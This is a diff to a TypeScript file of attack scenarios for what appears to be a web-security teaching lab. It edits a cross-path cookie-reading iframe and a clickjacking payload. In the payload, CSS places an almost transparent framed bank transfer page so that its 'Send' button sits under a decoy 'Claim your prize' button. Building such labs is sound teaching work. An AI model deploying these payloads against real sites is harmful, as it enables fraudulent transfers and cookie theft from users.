@@ -45,7 +45,7 @@ export const boundaries: readonly Attack[] = [
     title: 'A page under another path reads the cookie',
     story:
       'The vault’s cookie says Path=…/vault, and a neighbour may publish under another path of the same host. The neighbour’s page frames the vault and reads the frame’s document.cookie.',
-    goal: 'The attacker’s log holds the vault’s cookie.',
+    goal: 'The attacker’s log holds the vault’s secret.',
     ground: 'neighbour-path',
     weakness: notWritten,
     exploit: `<iframe src="{{bank}}/vault/" title="The vault"></iframe>
@@ -87,13 +87,17 @@ export const framing: readonly Attack[] = [
     lab: 'framing',
     title: 'A click on a framed transfer',
     story:
-      'Another site frames the bank’s transfer page, nearly invisible, above a button of its own. Alice means to click the button.',
+      'Another site frames the bank’s transfer page, nearly invisible, so that its “Send” lies over a button of its own. Alice means to click the button.',
     goal: 'Alice’s balance goes down.',
     ground: 'other-frame',
     weakness: sameSiteNone,
     exploit: `<style>
-  button { position: absolute; left: 24px; top: 24px; width: 220px; height: 48px; }
-  iframe { position: absolute; inset: 0; width: 100%; height: 200px; border: 0; opacity: 0.15; }
+  body { margin: 0; overflow: hidden; }
+  button { position: absolute; left: 32px; top: 44px; width: 130px; height: 80px; }
+  iframe {
+    position: absolute; left: 0; top: -240px; width: 240px; height: 240px; border: 0;
+    opacity: 0.15; transform: scale(2); transform-origin: 0 0;
+  }
 </style>
 <button>Claim your prize</button>
 <iframe src="{{bank}}/transfer/confirm?to=mallory&amp;amount=100" title="A prize"></iframe>`,
